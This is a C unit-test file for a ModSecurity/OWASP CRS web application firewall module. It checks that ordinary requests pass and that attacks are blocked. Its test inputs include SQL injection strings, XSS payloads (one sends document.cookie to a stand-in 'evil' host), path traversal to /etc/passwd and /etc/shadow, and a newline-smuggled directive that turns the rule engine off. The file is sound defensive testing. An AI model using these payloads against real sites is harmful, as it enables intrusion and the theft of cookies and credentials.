/* Unit tests of the WAF step (policy/waf): libmodsecurity with Debian's OWASP CRS. Ordinary
 * requests pass; SQL injection, XSS, path traversal and attacks in bodies are matched with 403;
 * paranoia and the audit log take effect; bad settings are refused with a message; four threads
 * sharing one engine reach the verdicts one thread reaches. Needs modsecurity-crs installed. */
#include "unit.h"

#include <pthread.h>
#include <stdbool.h>
#include <time.h>
#include <unistd.h>

#include "policy/waf.h"

/* --- requests ---------------------------------------------------------------------------- */

#define MAX_HDRS 16

struct req {
    const char *method, *uri, *ctype, *body;
};

struct built {
    struct http_header hdrs[MAX_HDRS];
    char clen[24];                    /* Content-Length value */
    struct waf_request wr;
};

static struct str cs(const char *s) { return str_make(s, strlen(s)); }

/* A request as a browser would send it (Host, User-Agent, Accept...), plus a body if any. */
static void build(const struct req *r, struct built *b)
{
    static const char *const base[][2] = {
        { "Host", "www.example.com" },
        { "User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0" },
        { "Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8" },
        { "Accept-Language", "en-US,en;q=0.5" },
        { "Accept-Encoding", "gzip, deflate, br" },
        { "Connection", "keep-alive" },
    };
    size_t n = 0;
    for (size_t i = 0; i < sizeof base / sizeof base[0]; i++)
        b->hdrs[n++] = (struct http_header){ cs(base[i][0]), cs(base[i][1]) };
    size_t blen = r->body ? strlen(r->body) : 0;
    if (r->ctype)
        b->hdrs[n++] = (struct http_header){ cs("Content-Type"), cs(r->ctype) };
    if (r->body) {
        snprintf(b->clen, sizeof b->clen, "%zu", blen);
        b->hdrs[n++] = (struct http_header){ cs("Content-Length"), cs(b->clen) };
    }
    b->wr = (struct waf_request){
        .client_ip = "192.0.2.10", .client_port = 51234, .server_ip = "192.0.2.1",
        .server_port = 443, .method = r->method, .method_len = strlen(r->method),
        .uri = r->uri, .uri_len = strlen(r->uri), .version = "1.1",
        .headers = b->hdrs, .n_headers = n, .body = r->body, .body_len = blen,
    };
}

static struct waf_engine *engine_at(uint32_t paranoia, const char *audit_log)
{
    struct conf_waf c = { .mode = WAF_BLOCK, .paranoia = paranoia, .body_limit = 128 * 1024,
                          .audit_log = (char *)audit_log };
    char err[512] = "";
    struct waf_engine *e = waf_engine_new(&c, err, sizeof err);
    if (!e)
        fprintf(stderr, "  waf_engine_new: %s\n", err);
    return e;
}

/* The PL1 engine most tests share (loading the CRS takes a while). */
static struct waf_engine *pl1;

static void free_pl1(void)
{
    waf_engine_free(pl1);
}

static struct waf_engine *engine(void)
{
    if (!pl1 && (pl1 = engine_at(1, NULL)))
        atexit(free_pl1); /* before the leak check, which was registered first */
    return pl1;
}

static int inspect(struct waf_engine *e, const struct req *r, struct waf_verdict *v)
{
    struct built b;
    build(r, &b);
    return waf_inspect(e, &b.wr, v);
}

/* Checks that R is not matched (RC, MATCHED and the verdict fields are reported on failure). */
#define CHECK_PASSES(e, r)                                                                   \
    do {                                                                                     \
        struct waf_verdict v_;                                                               \
        CHECK_EQ_INT(inspect((e), (r), &v_), 0);                                             \
        if (v_.matched)                                                                      \
            fprintf(stderr, "  %s %s: matched by %s: %s\n", (r)->method, (r)->uri,           \
                    v_.rule_id, v_.message);                                                 \
        CHECK(!v_.matched);                                                                  \
        CHECK_EQ_INT(v_.status, 0);                                                          \
    } while (0)

#define CHECK_BLOCKED(e, r, want_status)                                                     \
    do {                                                                                     \
        struct waf_verdict v_;                                                               \
        CHECK_EQ_INT(inspect((e), (r), &v_), 0);                                             \
        if (!v_.matched)                                                                     \
            fprintf(stderr, "  %s %s: not matched\n", (r)->method, (r)->uri);                \
        CHECK(v_.matched);                                                                   \
        CHECK_EQ_INT(v_.status, (want_status));                                              \
        CHECK(v_.rule_id[0] >= '1' && v_.rule_id[0] <= '9');                                 \
        CHECK(v_.message[0] != '\0');                                                        \
    } while (0)

/* --- loading ----------------------------------------------------------------------------- */

UNIT_TEST(test_engine_loads_crs)
{
    struct timespec a, b;
    clock_gettime(CLOCK_MONOTONIC, &a);
    struct waf_engine *e = engine_at(1, NULL);
    clock_gettime(CLOCK_MONOTONIC, &b);
    CHECK(e != NULL);
    double ms = (double)(b.tv_sec - a.tv_sec) * 1e3 + (double)(b.tv_nsec - a.tv_nsec) / 1e6;
    fprintf(stderr, "  (info) waf_engine_new with the CRS at paranoia 1: %.0f ms\n", ms);
    waf_engine_free(e);
}

UNIT_TEST(test_bad_paranoia_is_refused)
{
    uint32_t bad[] = { 0, 5, 100 };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        struct conf_waf c = { .mode = WAF_BLOCK, .paranoia = bad[i], .body_limit = 1024 };
        char err[256] = "";
        CHECK(waf_engine_new(&c, err, sizeof err) == NULL);
        CHECK(strstr(err, "paranoia") != NULL);
    }
}

UNIT_TEST(test_bad_audit_log_is_refused)
{
    const char *bad[] = { "/nonexistent-portero-dir/sub/audit.log", "/tmp/a\"b.log",
                          "/tmp/a\nSecRuleEngine Off" };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        struct conf_waf c = { .mode = WAF_BLOCK, .paranoia = 1, .body_limit = 1024,
                              .audit_log = (char *)bad[i] };
        char err[512] = "";
        struct waf_engine *e = waf_engine_new(&c, err, sizeof err);
        CHECK(e == NULL);
        waf_engine_free(e);
        CHECK(strstr(err, "audit") != NULL);
        if (i == 0)
            CHECK(strstr(err, bad[0]) != NULL);
    }
}

/* --- ordinary traffic -------------------------------------------------------------------- */

UNIT_TEST(test_ordinary_requests_pass)
{
    struct waf_engine *e = engine();
    CHECK(e != NULL);
    if (!e)
        return;
    const struct req ok[] = {
        { "GET", "/", NULL, NULL },
        { "GET", "/products/42?sort=price&page=2", NULL, NULL },
        { "GET", "/search?q=red+shoes&lang=en", NULL, NULL },
        { "HEAD", "/static/app.js", NULL, NULL },
        { "POST", "/api/v1/orders", "application/json",
          "{\"item\": \"book\", \"qty\": 2, \"note\": \"gift wrap, please\","
          " \"tags\": [\"a\", \"b\"]}" },
        { "POST", "/login", "application/x-www-form-urlencoded", "user=alice&remember=1" },
        { "PUT", "/api/v1/profile", "application/json; charset=utf-8", "{\"name\": \"Zoë\"}" },
        { "DELETE", "/api/v1/orders/17", NULL, NULL },
    };
    for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++)
        CHECK_PASSES(e, &ok[i]);
}

/* --- attacks ----------------------------------------------------------------------------- */

UNIT_TEST(test_sql_injection_in_query_is_blocked)
{
    struct waf_engine *e = engine();
    if (!e)
        return;
    const struct req bad[] = {
        { "GET", "/?id=1'%20OR%20'1'='1", NULL, NULL },
        { "GET", "/?id=1' OR '1'='1", NULL, NULL },
        { "GET", "/items?id=1%27+OR+%271%27%3D%271", NULL, NULL },
        { "GET", "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", NULL, NULL },
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        CHECK_BLOCKED(e, &bad[i], 403);
    /* the attack rule is reported, not only the score that tipped the balance */
    struct waf_verdict v;
    CHECK_EQ_INT(inspect(e, &bad[0], &v), 0);
    CHECK(strncmp(v.rule_id, "942", 3) == 0);
    CHECK(strstr(v.message, "SQL Injection") != NULL);
}

UNIT_TEST(test_xss_is_blocked)
{
    struct waf_engine *e = engine();
    if (!e)
        return;
    const struct req bad[] = {
        { "GET", "/?q=<script>alert(1)</script>", NULL, NULL },
        { "GET", "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", NULL, NULL },
        { "GET", "/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", NULL, NULL },
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        CHECK_BLOCKED(e, &bad[i], 403);
    struct waf_verdict v;
    CHECK_EQ_INT(inspect(e, &bad[0], &v), 0);
    CHECK(strncmp(v.rule_id, "941", 3) == 0);
}

UNIT_TEST(test_path_traversal_is_blocked)
{
    struct waf_engine *e = engine();
    if (!e)
        return;
    const struct req bad[] = {
        { "GET", "/../../etc/passwd", NULL, NULL },
        { "GET", "/%2e%2e/%2e%2e/etc/passwd", NULL, NULL },
        { "GET", "/..%2f..%2f..%2fetc%2fpasswd", NULL, NULL },
        { "GET", "/%252e%252e%252f%252e%252e%252fetc%252fpasswd", NULL, NULL },
        { "GET", "/static/..%5c..%5c..%5cwindows%5cwin.ini", NULL, NULL },
        { "GET", "/download?file=../../../../etc/shadow", NULL, NULL },
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        CHECK_BLOCKED(e, &bad[i], 403);
}

UNIT_TEST(test_attacks_in_bodies_are_blocked)
{
    struct waf_engine *e = engine();
    if (!e)
        return;
    const struct req bad[] = {
        { "POST", "/login", "application/x-www-form-urlencoded",
          "user=admin%27%20OR%20%271%27%3D%271&pass=x" },
        { "POST", "/login", "application/x-www-form-urlencoded",
          "user=x&pass=1' UNION SELECT password FROM users--" },
        { "POST", "/api/comments", "application/json",
          "{\"text\": \"<script>document.location='http://evil/'+document.cookie</script>\"}" },
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        CHECK_BLOCKED(e, &bad[i], 403);
    /* A body that cannot be parsed could hide anything: refused as malformed. */
    const struct req broken = { "POST", "/api/v1/orders", "application/json", "{\"item\": " };
    CHECK_BLOCKED(e, &broken, 400);
}

UNIT_TEST(test_body_past_limit_is_not_inspected)
{
    struct conf_waf c = { .mode = WAF_DETECT, .paranoia = 1, .body_limit = 16 };
    char err[512] = "";
    struct waf_engine *e = waf_engine_new(&c, err, sizeof err);
    CHECK(e != NULL);
    if (!e)
        return;
    /* the attack sits past the 16th byte: only the head of the body is looked at */
    const struct req late = { "POST", "/form", "application/x-www-form-urlencoded",
                              "a=1&b=2&c=3&d=4&e=1%27%20OR%20%271%27%3D%271" };
    CHECK_PASSES(e, &late);
    const struct req early = { "POST", "/form", "application/x-www-form-urlencoded",
                               "e=<script>alert(1)</script>" };
    CHECK_BLOCKED(e, &early, 403);
    waf_engine_free(e);
}

UNIT_TEST(test_zero_body_limit_inspects_head_only)
{
    struct conf_waf c = { .mode = WAF_DETECT, .paranoia = 1, .body_limit = 0 };
    char err[512] = "";
    struct waf_engine *e = waf_engine_new(&c, err, sizeof err);
    CHECK(e != NULL);
    if (!e)
        return;
    const struct req in_body = { "POST", "/form", "application/x-www-form-urlencoded",
                                 "e=<script>alert(1)</script>" };
    CHECK_PASSES(e, &in_body);
    /* phase 2, where the score is added up, still runs */
    const struct req in_query = { "POST", "/form?e=<script>alert(1)</script>",
                                  "application/x-www-form-urlencoded", "a=1" };
    CHECK_BLOCKED(e, &in_query, 403);
    waf_engine_free(e);
}

/* --- paranoia, audit log, verdict details -------------------------------------------------- */

UNIT_TEST(test_paranoia_level_takes_effect)
{
    struct waf_engine *e1 = engine(), *e4 = engine_at(4, NULL);
    CHECK(e4 != NULL);
    if (!e1 || !e4) {
        waf_engine_free(e4);
        return;
    }
    /* Harmless at paranoia 1; the stricter rule sets of higher levels flag it. */
    const struct req r = { "GET", "/search?q=a'b'c'd'e'f'g'h'i'j'k'l'm", NULL, NULL };
    CHECK_PASSES(e1, &r);
    CHECK_BLOCKED(e4, &r, 403);
    waf_engine_free(e4);
}

static char *slurp(const char *path)
{
    FILE *f = fopen(path, "rb");
    if (!f)
        return NULL;
    static char buf[1 << 16];
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = '\0';
    return buf;
}

UNIT_TEST(test_audit_log_records_matched_requests_only)
{
    char dir[] = "/tmp/portero-waf-XXXXXX";
    CHECK(mkdtemp(dir) != NULL);
    char path[64];
    snprintf(path, sizeof path, "%s/audit.log", dir);
    struct waf_engine *e = engine_at(1, path);
    CHECK(e != NULL);
    if (e) {
        const struct req ok = { "GET", "/hello", NULL, NULL };
        const struct req bad = { "GET", "/?id=1'%20OR%20'1'='1", NULL, NULL };
        CHECK_PASSES(e, &ok);
        char *log = slurp(path);
        CHECK(log == NULL || log[0] == '\0');
        CHECK_BLOCKED(e, &bad, 403);
        log = slurp(path);
        CHECK(log != NULL);
        if (log) {
            CHECK(log[0] == '{');                       /* JSON, one entry per line */
            CHECK(strchr(log, '\n') == strrchr(log, '\n'));
            CHECK(strstr(log, "942100") != NULL);
            CHECK(strstr(log, "/hello") == NULL);
        }
        waf_engine_free(e);
    }
    unlink(path);
    rmdir(dir);
}

UNIT_TEST(test_forged_rule_fields_are_not_believed)
{
    struct waf_engine *e = engine();
    if (!e)
        return;
    /* Request data appears unescaped in ModSecurity's messages: this one imitates their fields. */
    const struct req r = { "GET",
        "/?q=%22%5D%20%5Bfile%20%22x%22%5D%20%5Bline%20%221%22%5D%20%5Bid%20%2212345%22%5D"
        "%20%5Brev%20%22%22%5D%20%5Bmsg%20%22forged%22%5D%20%5Bdata%20%22%22%5D"
        "%20%5Bseverity%20%220%22%5D<script>alert(1)</script>", NULL, NULL };
    struct waf_verdict v;
    CHECK_EQ_INT(inspect(e, &r, &v), 0);
    CHECK(v.matched);
    CHECK(strcmp(v.rule_id, "12345") != 0);
    CHECK(strstr(v.message, "forged") == NULL);
    for (const char *p = v.message; *p; p++)
        CHECK(*p >= 0x20 && *p < 0x7f);
}

UNIT_TEST(test_nul_in_target_is_an_error)
{
    struct waf_engine *e = engine();
    if (!e)
        return;
    struct built b;
    const struct req r = { "GET", "/a", NULL, NULL };
    build(&r, &b);
    b.wr.uri = "/a\0/../../etc/passwd";
    b.wr.uri_len = 20;
    struct waf_verdict v;
    CHECK_EQ_INT(waf_inspect(e, &b.wr, &v), -1);
    CHECK(!v.matched);
    CHECK(v.message[0] != '\0');
}

/* --- threads ------------------------------------------------------------------------------ */

static const struct req mix[] = {
    { "GET", "/", NULL, NULL },
    { "GET", "/?id=1'%20OR%20'1'='1", NULL, NULL },
    { "POST", "/api/v1/orders", "application/json", "{\"item\": \"book\", \"qty\": 2}" },
    { "GET", "/?q=<script>alert(1)</script>", NULL, NULL },
    { "GET", "/products/42?sort=price", NULL, NULL },
    { "GET", "/%2e%2e/%2e%2e/etc/passwd", NULL, NULL },
    { "POST", "/login", "application/x-www-form-urlencoded", "user=admin%27%20OR%201%3D1--" },
    { "POST", "/api/v1/orders", "application/json", "{\"item\": " },
};
#define N_MIX (sizeof mix / sizeof mix[0])
#define ROUNDS 25

struct worker {
    pthread_t tid;
    int start;                        /* each thread walks the mix from another place */
    struct waf_verdict got[ROUNDS][N_MIX];
    int errors;
};

static void *worker_run(void *arg)
{
    struct worker *w = arg;
    for (int round = 0; round < ROUNDS; round++)
        for (size_t k = 0; k < N_MIX; k++) {
            size_t i = (k + (size_t)w->start) % N_MIX;
            struct built b;
            build(&mix[i], &b);
            if (waf_inspect(pl1, &b.wr, &w->got[round][i]) != 0)
                w->errors++;
        }
    return NULL;
}

static bool same_verdict(const struct waf_verdict *a, const struct waf_verdict *b)
{
    return a->matched == b->matched && a->status == b->status &&
           strcmp(a->rule_id, b->rule_id) == 0 && strcmp(a->message, b->message) == 0;
}

UNIT_TEST(test_four_threads_share_one_engine)
{
    if (!engine())
        return;
    struct waf_verdict want[N_MIX];
    for (size_t i = 0; i < N_MIX; i++)
        CHECK_EQ_INT(inspect(pl1, &mix[i], &want[i]), 0);
    CHECK(!want[0].matched && want[1].matched && !want[2].matched && want[3].matched);
    static struct worker w[4];
    for (int t = 0; t < 4; t++) {
        w[t].start = t * 3;
        CHECK_EQ_INT(pthread_create(&w[t].tid, NULL, worker_run, &w[t]), 0);
    }
    for (int t = 0; t < 4; t++)
        pthread_join(w[t].tid, NULL);
    int differ = 0;
    for (int t = 0; t < 4; t++) {
        CHECK_EQ_INT(w[t].errors, 0);
        for (int round = 0; round < ROUNDS; round++)
            for (size_t i = 0; i < N_MIX; i++)
                differ += !same_verdict(&w[t].got[round][i], &want[i]);
    }
    CHECK_EQ_INT(differ, 0);
}

UNIT_MAIN()
